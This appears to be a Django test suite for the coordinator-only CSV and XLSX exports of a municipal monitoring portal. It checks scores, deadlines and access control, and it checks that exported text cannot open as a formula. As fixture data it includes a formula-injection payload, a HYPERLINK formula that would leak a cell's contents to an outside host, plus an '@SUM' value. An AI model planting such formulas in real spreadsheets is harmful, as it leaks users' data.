"""A round's exports read back: observations with both scores and the final one, the requests
with their deadlines, as CSV and XLSX documents for coordinators only, with nothing anyone typed
opening as a formula."""

import csv
import io
from datetime import date

import openpyxl
import pytest
from django.test import TestCase
from django.urls import reverse
from django.utils import timezone, translation

from ivanovo_portal.documents.models import GeneratedDocument
from ivanovo_portal.documents.selectors import document_of
from monitoring import exports
from monitoring.models import (
    Criterion,
    Evidence,
    InformationRequest,
    Observation,
    Round,
    SecondScore,
)

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://example.org/?d="&A2,"виж")'


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def scored(round_, monitor, monitor2, staff, centre, village):
    """T1 in the centre verified after a reconciled disagreement, with two pieces of evidence
    and a request as evidence; P2 in a village submitted with a finding that looks like a
    formula."""
    criteria = {c.code: c for c in Criterion.objects.filter(area__version=round_.version)}
    verified = Observation.objects.create(
        round=round_,
        criterion=criteria["T1"],
        settlement=centre,
        monitor=monitor,
        observed_on=date(2026, 10, 2),
        finding="Регистърът е публикуван, но не е актуален.",
        score=2,
        status=Observation.Status.VERIFIED,
        submitted_at=timezone.now(),
        final_score=1,
        reconciled_by=staff,
        reconciliation="Последното вписване е от 2024 г.",
        verified_at=timezone.now(),
    )
    SecondScore.objects.create(observation=verified, scorer=monitor2, score=1, note="Остарял.")
    for number in range(2):
        Evidence.objects.create(
            observation=verified,
            kind=Evidence.Kind.LINK,
            url=f"https://ivanovo.bg/page-{number}",
            added_by=monitor,
        )
    submitted = Observation.objects.create(
        round=round_,
        criterion=criteria["P2"],
        settlement=village,
        monitor=monitor2,
        observed_on=date(2026, 10, 3),
        finding=FORMULA,
        score=0,
        status=Observation.Status.SUBMITTED,
        submitted_at=timezone.now(),
    )
    request = InformationRequest.objects.create(
        round=round_,
        settlement=centre,
        subject="@SUM(1,1) регистър",
        text="Моля за регистъра.",
        channel=InformationRequest.Channel.EMAIL,
        submitted_on=date(2026, 10, 6),
        registry_number="94-00-12",
        made_by=monitor,
    )
    request.criteria.set([criteria["T1"]])
    return verified, submitted, request


def read_csv(rendered):
    text = rendered.content.read().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_the_observations_csv_has_both_scores_the_final_one_and_its_reason(round_, scored):
    verified, _submitted, request = scored
    first, second = read_csv(exports.render_observations_csv(round_))
    assert first["observation_id"] == str(verified.pk)
    assert (first["area"], first["criterion"], first["settlement"]) == ("T", "T1", "Иваново")
    assert first["monitor"] == "Monitor" and first["second_scorer"] == "Monitor2"
    assert (first["score"], first["second_score"], first["final_score"]) == ("2", "1", "1")
    assert first["reconciled_by"] == "Staff"
    assert first["reconciliation"] == "Последното вписване е от 2024 г."
    with translation.override("bg"):
        assert first["status"] == str(Observation.Status.VERIFIED.label)
    assert first["observed_on"] == "2026-10-02"
    assert first["evidence"] == "2"
    assert first["requests"] == str(request.pk)
    assert second["criterion"] == "P2" and second["second_score"] == ""
    assert second["final_score"] == "" and second["evidence"] == "0"
    assert second["requests"] == ""


def test_a_finding_that_looks_like_a_formula_stays_text_in_the_csv(round_, scored):
    _first, second = read_csv(exports.render_observations_csv(round_))
    assert second["finding"] == "'" + FORMULA
    [request] = read_csv(exports.render_requests_csv(round_))
    assert request["subject"] == "'@SUM(1,1) регистър"


def test_the_requests_csv_has_each_deadline_and_answer(round_, scored):
    _verified, _submitted, request = scored
    [row] = read_csv(exports.render_requests_csv(round_))
    assert row["request_id"] == str(request.pk)
    assert row["submitted_on"] == "2026-10-06" and row["deadline"] == "2026-10-20"
    assert row["registry_number"] == "94-00-12"
    assert row["overdue"] == "1"
    assert row["criteria"] == "T1" and row["made_by"] == "Monitor"


def test_the_xlsx_holds_both_tables_with_numbers_as_numbers_and_text_as_text(round_, scored):
    rendered = exports.render_round_xlsx(round_)
    assert rendered.content_type == exports.XLSX
    workbook = openpyxl.load_workbook(rendered.content)
    assert workbook.sheetnames == [exports.OBSERVATIONS_SHEET, exports.REQUESTS_SHEET]
    for sheet in workbook:
        for row in sheet.iter_rows():
            assert [cell.coordinate for cell in row if cell.data_type == "f"] == []
    header, first, second = workbook[exports.OBSERVATIONS_SHEET].iter_rows()
    columns = {cell.value: i for i, cell in enumerate(header)}
    assert first[columns["score"]].value == 2 and first[columns["final_score"]].value == 1
    assert first[columns["evidence"]].value == 2
    finding = second[columns["finding"]]
    assert (finding.data_type, finding.value) == ("s", FORMULA)
    header, request = workbook[exports.REQUESTS_SHEET].values
    row = dict(zip(header, request, strict=True))
    assert row["deadline"].date() == date(2026, 10, 20)
    assert row["subject"] == "@SUM(1,1) регистър"


# The page and the documents


def exported(client, round_, name):
    """The export ``name`` asked for on the round's exports page, rendered, and downloaded."""
    with TestCase.captureOnCommitCallbacks(execute=True):
        asked = client.post(reverse("monitoring:round_exports", args=[round_.slug]), {"name": name})
    assert asked.url == reverse("monitoring:round_exports", args=[round_.slug])
    document = document_of(round_, exports.EXPORTS[name])
    assert document.is_ready, document.error
    download = client.get(document.download_url)
    assert download.status_code == 200
    return document, b"".join(download.streaming_content)


def test_a_coordinator_asks_for_an_export_and_downloads_it(client, staff, round_, scored):
    client.force_login(staff)
    document, body = exported(client, round_, "observations.csv")
    assert document.media_type == exports.CSV
    assert "Monitor2" in body.decode("utf-8")
    page = client.get(reverse("monitoring:round_exports", args=[round_.slug]))
    assert document.download_url in page.text


def test_the_exports_page_shows_a_queued_export(client, staff, round_, scored, english):
    client.force_login(staff)
    url = reverse("monitoring:round_exports", args=[round_.slug])
    client.post(url, {"name": "round.xlsx"})
    document = document_of(round_, exports.ROUND_XLSX_KIND)
    assert document.status == GeneratedDocument.Status.QUEUED
    assert "The XLSX is waiting to be rendered." in client.get(url).text


def test_an_unknown_export_is_not_found(client, staff, round_):
    client.force_login(staff)
    url = reverse("monitoring:round_exports", args=[round_.slug])
    assert client.post(url, {"name": "round.ods"}).status_code == 404


@pytest.mark.parametrize("persona", ["monitor", "official", "resident", "outsider"])
def test_only_coordinators_see_the_exports(client, request, staff, round_, scored, persona):
    client.force_login(staff)
    document, _body = exported(client, round_, "requests.csv")
    client.force_login(request.getfixturevalue(persona))
    url = reverse("monitoring:round_exports", args=[round_.slug])
    assert client.get(url).status_code == 403
    assert client.post(url, {"name": "requests.csv"}).status_code == 403
    assert client.get(document.download_url).status_code == 403


def test_exports_are_never_public(client, staff, round_, scored):
    client.force_login(staff)
    document, _body = exported(client, round_, "round.xlsx")
    Round.objects.filter(pk=round_.pk).update(status=Round.Status.PUBLISHED)
    client.logout()
    document.refresh_from_db()
    assert not document.is_public
    assert client.get(document.download_url).status_code in (302, 403)
    response = client.get(reverse("monitoring:round_exports", args=[round_.slug]))
    assert response.status_code == 302
